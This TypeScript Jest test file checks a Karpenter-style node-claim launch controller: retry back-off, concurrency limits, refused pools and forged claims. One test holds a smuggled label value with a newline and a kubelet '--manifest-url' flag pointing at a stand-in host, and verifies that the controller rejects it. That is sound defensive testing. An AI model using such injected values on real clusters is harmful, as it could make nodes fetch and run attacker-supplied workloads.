import { describe, expect, test } from '@jest/globals';
import { fakeClock } from '@karpenter/runtime';
import { hashAnnotations } from '../../../apis/index.ts';
import type { NodeClaim, NodePool } from '../../../apis/index.ts';
import { CloudProviderError } from '../../../cloudprovider/index.ts';
import { conditionOf } from '../../../kube/index.ts';
import { FakeCluster } from '../../../ports/fixtures/fake-cluster.ts';
import { fakeShell } from '../../fixtures/fake-shell.ts';
import { aNodeClaim, aNodePool } from '../../../testing/objects.ts';
import { AT_ONCE_PER_CLAIM, AT_ONCE_PER_POOL, Launch, LaunchRetry } from './launch.ts';
import { lifecycle } from './lifecycle.ts';

const poolNamed = (name: string): NodePool =>
  aNodePool(name, { metadata: { uid: name }, status: { conditions: [{ type: 'Ready', status: 'True' }] } });

/** A claim as the pool makes it. */
const claimOfPool = (name: string, pool = 'general', metadata: Partial<NodeClaim['metadata']> = {}): NodeClaim =>
  aNodeClaim(name, {
    metadata: {
      labels: { 'karpenter.sh/nodepool': pool },
      ownerReferences: [{ apiVersion: 'karpenter.sh/v1', kind: 'NodePool', name: pool, uid: pool }],
      ...metadata,
      annotations: { ...hashAnnotations(poolNamed(pool)), ...metadata.annotations },
    },
  });

describe('the wait after a failed launch', () => {
  const started = () => {
    const clock = fakeClock(0);
    const retry = new LaunchRetry(clock);
    const unavailable = (claim: NodeClaim): number => retry.failed({ claim, picksAnother: true, afterMs: 0 });
    return { clock, retry, unavailable };
  };

  test('is none while another offering is left, twenty times a minute, and then grows', async () => {
    const { clock, unavailable } = started();
    const claim = claimOfPool('a');
    const waits = Array.from({ length: AT_ONCE_PER_CLAIM + 3 }, () => unavailable(claim));
    expect(waits.filter((waitMs) => waitMs === 0)).toHaveLength(AT_ONCE_PER_CLAIM);
    expect(waits.slice(AT_ONCE_PER_CLAIM)).toEqual([1000, 2000, 4000]);
    await clock.advance(60_000);
    expect(unavailable(claim)).toBe(0);
  });

  test('is none for a hundred launches of a pool in a minute, whatever their number, and other pools have their own', () => {
    const { unavailable } = started();
    const waits = Array.from({ length: 500 }, (_, index) => unavailable(claimOfPool(`a-${index}`)));
    expect(waits.filter((waitMs) => waitMs === 0)).toHaveLength(AT_ONCE_PER_POOL);
    expect(waits.at(-1)).toBe(1000);
    expect(unavailable(claimOfPool('b', 'other'))).toBe(0);
  });

  test('of a cloud that throttles is what it asks for', () => {
    const { retry } = started();
    const claim = claimOfPool('a');
    expect(retry.failed({ claim, picksAnother: false, afterMs: 7000 })).toBe(7000);
    expect(retry.remainingMs(claim)).toBe(7000);
    retry.forget(claim);
    expect(retry.remainingMs(claim)).toBe(0);
  });
});

describe('while a cloud does not answer', () => {
  const { signal } = new AbortController();
  const aScene = () => {
    const asked = new Map<string, number>();
    const create = (claim: NodeClaim): Promise<never> => {
      const pool = claim.metadata.labels?.['karpenter.sh/nodepool'] ?? '';
      asked.set(pool, (asked.get(pool) ?? 0) + 1);
      return new Promise(() => undefined);
    };
    const shell = fakeShell(new FakeCluster(), { create });
    const launch = new Launch(shell);
    let claims = 0;
    const begin = (count: number, pool: string) =>
      Array.from({ length: count }, () => launch.run(claimOfPool(`${pool}-${claims++}`, pool), { withinMs: 300_000, signal }));
    return { shell, asked, begin };
  };

  test('400 launches of a pool wait for it, and others of the pool wait for these', async () => {
    const { shell, asked, begin } = aScene();
    const launches = begin(401, 'a');
    expect(await launches[400]).toEqual({ kind: 'requeue', afterMs: 1000 });
    expect(asked.get('a')).toBe(400);
    await shell.clock.advance(300_000);
    await Promise.all(launches);
    void begin(1, 'a');
    expect(asked.get('a')).toBe(401);
  });

  test('other pools launch beside it, 800 in all, which leaves 200 workers for the other steps of claims', async () => {
    const { asked, begin } = aScene();
    for (const pool of ['a', 'b']) void begin(500, pool);
    expect(await begin(1, 'c')[0]).toEqual({ kind: 'requeue', afterMs: 1000 });
    expect([asked.get('a'), asked.get('b')]).toEqual([400, 400]);
  });
});

describe('a claim whose launch fails for a reason of its pool', () => {
  const { signal } = new AbortController();
  const refusal = (code: 'forbidden' | 'launch-failed') => new CloudProviderError(code, 'a policy forbids it', { reason: 'Forbidden' });

  /** A claim of the pool `general` for a pod, made at the start, and a cloud that fails so. */
  const aScene = (error: Error, pools: readonly string[]) => {
    const cluster = new FakeCluster();
    const aType = { name: 'm', requirements: new Map(), offerings: [], capacity: {}, overhead: {} };
    const shell = fakeShell(cluster, { create: () => Promise.reject(error), getInstanceTypes: () => Promise.resolve([aType]) });
    for (const name of pools) cluster.seed('NodePool', poolNamed(name));
    const launch = new Launch(shell);
    const claimMadeNow = (name: string): NodeClaim => {
      const creationTimestamp = new Date(shell.clock.now()).toISOString();
      const claim = claimOfPool(name, 'general', { creationTimestamp, annotations: { 'karpenter.sh/planned-pods': `pod-of-${name}` } });
      cluster.seed('NodeClaim', claim);
      return claim;
    };
    const run = (claim: NodeClaim) => launch.run(claim, { withinMs: 300_000, signal });
    const names = (): readonly string[] => shell.caches.nodeClaims.list().map(({ metadata }) => metadata.name);
    const begin = async () => {
      await shell.state.refreshCatalogs(signal);
      return [claimMadeNow('a'), claimMadeNow('b')] as const;
    };
    return { shell, begin, run, names, claimMadeNow };
  };

  test.each(['forbidden', 'launch-failed'] as const)(
    'is deleted where another pool may serve its pods, and so are its like: %s',
    async (code) => {
      const { begin, run, names, shell } = aScene(refusal(code), ['general', 'other']);
      const [a, b] = await begin();
      expect(await run(a)).toEqual({ kind: 'settled' });
      await shell.clock.advance(2000);
      await run(b);
      expect(names()).toEqual([]);
      expect(shell.state.launches.isAvoided('general')).toBe(true);
    },
  );

  test('stays and is launched again where it was made after that: no other pool served its pods', async () => {
    const { begin, run, names, shell, claimMadeNow } = aScene(refusal('forbidden'), ['general', 'other']);
    const [a] = await begin();
    await run(a);
    await shell.clock.advance(2000);
    expect(await run(claimMadeNow('c'))).toEqual({ kind: 'requeue', afterMs: 1000 });
    expect(names()).toContain('c');
  });

  test('stays where no other pool may launch', async () => {
    const { begin, run, names } = aScene(refusal('forbidden'), ['general']);
    const [a] = await begin();
    expect(await run(a)).toEqual({ kind: 'requeue', afterMs: 1000 });
    expect(names()).toEqual(['a', 'b']);
  });

  test('because of a bug in the provider is deleted, too, and the bug is thrown', async () => {
    const { begin, run, names, shell } = aScene(new TypeError('x is undefined'), ['general', 'other']);
    const [a] = await begin();
    await expect(run(a)).rejects.toThrow('x is undefined');
    expect([names(), shell.state.launches.isAvoided('general')]).toEqual([['b'], true]);
  });
});

describe('a claim with the label of a pool that did not make it', () => {
  const { signal } = new AbortController();
  const made = claimOfPool('a');
  const hash = made.metadata.annotations;
  const forged: readonly (readonly [string, Partial<NodeClaim['metadata']>, Partial<NodeClaim['spec']>])[] = [
    ['of no owner', { ownerReferences: [] }, {}],
    ['of another node class', {}, { nodeClassRef: { ...made.spec.nodeClassRef, name: 'missing' } }],
    ['without a hash', { annotations: {} }, {}],
    ['of another hash', { annotations: { ...hash, 'karpenter.sh/nodepool-hash': '1' } }, {}],
  ];
  const failures = [
    new CloudProviderError('node-class-not-ready', 'the class is missing'),
    new CloudProviderError('forbidden', 'a policy forbids it'),
    new TypeError('x is undefined'),
  ];

  /** Whether the pool is passed over, and whether it is held, after two such claims failed. */
  const afterTwo = async (error: Error, { metadata, spec }: Pick<NodeClaim, 'metadata' | 'spec'>) => {
    const cluster = new FakeCluster();
    const shell = fakeShell(cluster, { create: () => Promise.reject(error) });
    cluster.seed('NodePool', poolNamed('general'));
    for (const name of ['a', 'b']) {
      const claim = aNodeClaim(name, { metadata: { ...metadata, name, uid: name }, spec });
      cluster.seed('NodeClaim', claim);
      shell.state.launches.asked(name);
      await new Launch(shell).run(claim, { withinMs: 300_000, signal }).catch(() => undefined);
    }
    return [shell.state.launches.isAvoided('general'), shell.state.launches.isHeld('general')];
  };

  test.each(forged)('%s does not hold the pool back', async (_, metadata, spec) => {
    const claim = { metadata: { ...made.metadata, ...metadata }, spec: { ...made.spec, ...spec } };
    for (const error of failures) expect(await afterTwo(error, claim)).toEqual([false, false]);
  });

  test('does not hold the pool back, but one that it made does', async () => {
    expect(await Promise.all(failures.map((error) => afterTwo(error, made)))).toEqual([
      [true, true],
      [true, false],
      [true, false],
    ]);
  });
});

test('a claim with a value that no label may have is launched by nobody, and its condition names field and value', async () => {
  const cluster = new FakeCluster();
  let calls = 0;
  const shell = fakeShell(cluster, { create: () => Promise.reject(new Error(`call ${(calls += 1)}`)) });
  const value = 'a\nKUBELET_FLAGS=--manifest-url=http://192.0.2.1/p';
  const spec = { requirements: [{ key: 'example.com/team', operator: 'In', values: [value] }] } as const;
  const claim = aNodeClaim('a', { spec });
  cluster.seed('NodeClaim', claim);
  const outcome = await new Launch(shell).run(claim, { withinMs: 300_000, signal: new AbortController().signal });
  const condition = conditionOf(shell.caches.nodeClaims.get({ name: 'a' })?.status?.conditions, 'Launched');
  expect([outcome, calls]).toEqual([{ kind: 'requeue', afterMs: 1000 }, 0]);
  expect(condition).toMatchObject({ status: 'Unknown', reason: 'LaunchFailed' });
  expect(condition?.message).toContain(`spec.requirements[0].values[0]: ${JSON.stringify(value)} must be a label value`);
});

const unsound = { requirements: [{ key: 'example.com/team', operator: 'In', values: ['a b'] }] } as const;

test.each([
  [
    'written by somebody else and names pods',
    aNodeClaim('a', { metadata: { annotations: { 'karpenter.sh/planned-pods': 'web' } }, spec: unsound }),
    false,
  ],
  ['written by somebody else and names no pods', aNodeClaim('a', { spec: unsound }), true],
  [
    'made by its pool for pods',
    {
      ...claimOfPool('a', 'general', { annotations: { 'karpenter.sh/planned-pods': 'web' } }),
      spec: { ...claimOfPool('a').spec, ...unsound },
    },
    true,
  ],
])(
  'when a claim with a value that no label may have is %s › it is deleted at once only where pods would wait for it in vain',
  async (_, claim, stays) => {
    const cluster = new FakeCluster();
    const shell = fakeShell(cluster, { create: () => Promise.reject(new Error('called')) });
    cluster.seed('NodePool', poolNamed('general'));
    cluster.seed('NodeClaim', claim);
    await new Launch(shell).run(claim, { withinMs: 300_000, signal: new AbortController().signal });
    expect(shell.caches.nodeClaims.get({ name: 'a' }) !== undefined).toBe(stays);
  },
);

describe('a claim whose offerings are refused', () => {
  const { signal } = new AbortController();

  /** A claim, and a cloud that refuses so many offerings. */
  const aScene = (refused: number) => {
    const cluster = new FakeCluster();
    let calls = 0;
    const machine = { providerId: 'test:///a', labels: {}, capacity: {}, allocatable: {} };
    const create = () =>
      calls++ < refused
        ? Promise.reject(new CloudProviderError('offering-unavailable', 'sold out', { reason: 'AllocationFailure' }))
        : Promise.resolve(machine);
    const shell = fakeShell(cluster, { create });
    cluster.seed('NodePool', poolNamed('general'));
    cluster.seed('NodeClaim', claimOfPool('a'));
    const launch = new Launch(shell);
    const seen = () => shell.caches.nodeClaims.get({ name: 'a' }) ?? claimOfPool('a');
    return {
      shell,
      run: () => launch.run(seen(), { withinMs: 300_000, signal }),
      launched: () => conditionOf(seen().status?.conditions, 'Launched'),
    };
  };

  test('is launched with the next one at once: seven cost no time', async () => {
    const { run, launched, shell } = aScene(7);
    for (let tries = 0; tries < 7; tries++) expect(await run()).toEqual({ kind: 'requeue', afterMs: 0 });
    expect(launched()).toBeUndefined();
    await run();
    expect(launched()).toMatchObject({ status: 'True' });
    expect(shell.reported.filter((each) => each.kind === 'launch-failed' && each.willRetry)).toHaveLength(7);
  });

  test('waits and says why once it has had its turns, and its pods go to other pools first', async () => {
    const { run, launched, shell } = aScene(100);
    for (let tries = 0; tries < AT_ONCE_PER_CLAIM; tries++) await run();
    expect(shell.state.launches.isAvoided('general')).toBe(false);
    expect(await run()).toEqual({ kind: 'requeue', afterMs: 1000 });
    expect(launched()).toMatchObject({ status: 'Unknown', reason: 'AllocationFailure', message: 'sold out' });
    expect(shell.state.launches.isAvoided('general')).toBe(true);
  });
});

test('a launch that succeeds › is written with labels, then with a status that says what is missing, and not again until a node joins', async () => {
  const { signal } = new AbortController();
  const cluster = new FakeCluster();
  const machine = { providerId: 'test://a', labels: {}, annotations: {}, capacity: {}, allocatable: {} };
  const shell = fakeShell(cluster, { create: () => Promise.resolve(machine) });
  cluster.seed('NodeClaim', aNodeClaim('a', { metadata: { finalizers: ['karpenter.sh/termination'] } }));
  const controller = lifecycle(shell, { initializationMs: Number.POSITIVE_INFINITY });
  const present = (): NodeClaim => shell.caches.nodeClaims.get({ name: 'a' }) ?? aNodeClaim('a');
  for (let pass = 0; pass < 3; pass++) await controller.reconcile(present(), { signal });
  expect(cluster.writes.filter((write) => write.includes('NodeClaim'))).toEqual(['patch NodeClaim a', 'patch NodeClaim a']);
  expect(conditionOf(present().status?.conditions, 'Registered')).toMatchObject({ status: 'Unknown', reason: 'NodeNotFound' });
});
